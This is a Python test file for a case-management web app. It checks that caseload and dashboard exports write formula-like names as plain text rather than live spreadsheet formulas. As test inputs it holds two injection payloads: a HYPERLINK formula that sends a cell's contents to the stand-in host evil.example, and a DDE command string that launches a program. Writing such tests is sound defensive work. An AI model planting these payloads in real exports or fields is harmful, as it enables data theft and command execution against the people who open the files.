"""A name typed as a spreadsheet formula is exported as the text it is, never run."""

import csv
import io

import msoffcrypto
from django.urls import reverse
from openpyxl import load_workbook

from cases.spreadsheets import spreadsheet_safe
from tests.cases.factories import CaseFactory
from tests.organisations.factories import UserFactory

FORMULA = '=HYPERLINK("http://evil.example/?d="&B3,"Open")'
PASSWORD = "a-shared-secret-2026"


def _cells(content: bytes, password: str):
    office = msoffcrypto.OfficeFile(io.BytesIO(content))
    office.load_key(password=password)
    plain = io.BytesIO()
    office.decrypt(plain)
    return [cell for row in load_workbook(plain).active.iter_rows() for cell in row]


def test_spreadsheet_safe_turns_every_formula_start_into_text():
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert spreadsheet_safe(f"{start}1+1") == f"'{start}1+1"
    assert spreadsheet_safe("Heng Sokha") == "Heng Sokha"
    assert spreadsheet_safe(None) == ""


def test_caseload_export_writes_a_formula_like_name_as_text(client_for, owner, supervisor, ngo):
    ngo.short_name = "@SUM(1+1)"
    ngo.save(update_fields=["short_name"])
    owner.first_name, owner.last_name = "+Worker", "-Name"
    owner.save(update_fields=["first_name", "last_name"])
    CaseFactory(actor=owner, name_latin=FORMULA, name_khmer="=1+2")
    response = client_for(supervisor).post(
        reverse("cases:export"), {"password": PASSWORD, "password_again": PASSWORD}
    )
    cells = _cells(response.content, PASSWORD)
    formulas = [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert formulas == []
    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
    assert "'" + FORMULA in texts and "'=1+2" in texts and "'@SUM(1+1)" in texts
    assert not any(text.startswith(("=", "+", "-", "@")) for text in texts)


def test_dashboard_exports_write_a_formula_like_organisation_name_as_text(client_for, ngo):
    from organisations.models import Role

    ngo.name, ngo.short_name = "=cmd|' /C calc'!A0", "=1+1"
    ngo.save(update_fields=["name", "short_name"])
    supervisor = UserFactory(organisation=ngo, role=Role.SUPERVISOR)
    client = client_for(supervisor)
    url = reverse("dashboards:export", args=["phase", "csv"])
    response = client.get(url)
    assert response.status_code == 200
    cells = [c for row in csv.reader(io.StringIO(response.content.decode())) for c in row]
    assert "'" + ngo.name in cells
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
    workbook = load_workbook(io.BytesIO(client.get(url.replace(".csv", ".xlsx")).content))
    assert all(cell.data_type != "f" for row in workbook.active.iter_rows() for cell in row)
